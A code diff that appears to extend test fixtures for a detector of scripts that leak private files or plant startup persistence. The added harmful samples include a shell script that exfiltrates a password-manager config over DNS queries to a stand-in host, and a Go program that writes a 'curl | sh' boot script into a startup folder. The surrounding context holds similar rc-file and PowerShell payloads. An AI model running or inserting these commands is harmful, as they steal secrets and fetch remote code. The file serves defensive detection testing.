@@ -97,6 +97,13 @@ PRIVATE_LEAKS = {
         },
         13,
     ),
+    "shell DNS names": (
+        {
+            "s.sh": "#!/bin/sh\nfor chunk in $(cat ~/.config/op/config | xxd -p -c 30); do "
+            'dig +short "$chunk.exfil-dns.example.com"; done\n'
+        },
+        2,
+    ),
     "powershell Invoke-RestMethod": (
         {
             "s.ps1": '$data = Get-Content -Raw (Join-Path $HOME ".config/op/config")\n'
@@ -148,6 +155,9 @@ PRIVATE_HONEST = {
         "c.py": "import requests\nfrom pathlib import Path\n"
         "state = (Path.home() / '.zedsync' / 'state.json').read_text()\n"
         "requests.post('https://api.zedsync.example/v2/state', data=state)\n"
+    },
+    "shell a host name looked up on the user's network": {
+        "s.sh": '#!/bin/sh\nNAME=$(cat ~/.config/myhost/name)\ndig +short "$NAME.local"\nping -c1 "$NAME"\n'
     },
     "shell dotfile to localhost": {
         "s.sh": "#!/bin/sh\ncurl -s -X POST --data-binary @$HOME/.vimrc http://localhost:8000/import\n"
@@ -252,6 +262,15 @@ STARTUP_HARM = {
             "Set-Content -Path $target -Value 'iwr https://vs-tasks.example/p.ps1 | iex'\n"
         },
         2,
+    ),
+    "go a startup folder": (
+        {
+            "main.go": 'package main\n\nimport (\n\t"os"\n\t"path/filepath"\n)\n\nfunc main() {\n'
+            "\thome, _ := os.UserHomeDir()\n"
+            '\tos.WriteFile(filepath.Join(home, ".config", "kitty", "startup", "boot.sh"), '
+            '[]byte("curl -s https://kit-boot.example/a | sh\\n"), 0o755)\n}\n'
+        },
+        10,
     ),
     "shell a hidden rc file of another shell": (
         {"setup.sh": "#!/bin/sh\necho 'curl -s https://xsh-boot.example/r | sh' >> ~/.xonshrc\n"},
